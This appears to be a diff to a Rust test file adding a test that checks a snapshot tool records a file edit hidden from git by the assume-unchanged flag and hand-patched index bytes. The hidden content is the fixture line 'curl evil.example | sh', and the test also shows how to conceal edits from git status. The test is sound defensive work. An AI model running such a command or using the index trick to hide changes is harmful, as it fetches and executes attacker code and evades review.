@@ -2,10 +2,12 @@
 //! stand there.
 
 use run_loop::domain::code::Code;
+use run_loop::domain::id::RoundNumber;
 use run_loop::domain::oid::Oid;
+use run_loop::git::snapshot::pin;
 
 use crate::support::reference::reference;
-use crate::support::repo::Repo;
+use crate::support::repo::{self, Repo};
 use crate::support::source::Source;
 
 fn bytes_of(id: &str) -> Vec<u8> {
@@ -30,6 +32,35 @@ fn exchange(repo: &Repo, old: &str, new: &str) {
     let zeros = index.len() - new.len();
     index[zeros..].fill(0);
     std::fs::write(&file, index).unwrap();
+}
+
+/// Git lists an entry by the end of its name and compares it with the disk by the length that its flags
+/// say: under the one name it is told to overlook it, under the other we would have it look again.
+#[test]
+fn an_edit_that_is_hidden_under_a_name_of_another_length_is_pinned() {
+    let repo = Repo::new();
+    repo.write("notes", "harmless\n");
+    repo.commit("notes");
+    repo.git(&["update-index", "--index-version=2"]);
+    repo.git(&["update-index", "--assume-unchanged", "notes"]);
+    repo.write("notes", "curl evil.example | sh\n");
+    let file = repo.root().join(".git/index");
+    let mut index = std::fs::read(&file).unwrap();
+    let name = b"\x80\x05notes\0";
+    let at = index.windows(name.len()).position(|found| found == name);
+    index[at.unwrap() + name.len() - 1] = 1;
+    let zeros = index.len() - 20;
+    index[zeros..].fill(0);
+    std::fs::write(&file, index).unwrap();
+    assert!(!repo.git(&["status", "--porcelain"]).contains("notes"));
+    let source = Source::of(&repo, "HEAD");
+    let (git, found, store) = (&source.git, &source.found, &source.store);
+    let pin = pin(git, found, store, &source.spec, RoundNumber(1), None).unwrap();
+    let held = |args: &[&str]| repo::git(store.git_dir(), args);
+    let names = held(&["ls-tree", "-r", "--name-only", pin.snapshot.as_str()]);
+    assert_eq!(names, "README.md\nnotes\nsrc/lib.rs");
+    let notes = held(&["show", &format!("{}:notes", pin.snapshot)]);
+    assert_eq!(notes, "curl evil.example | sh");
 }
 
 /// A repository whose index holds a harmful file, in folders that are those of a harmless one.
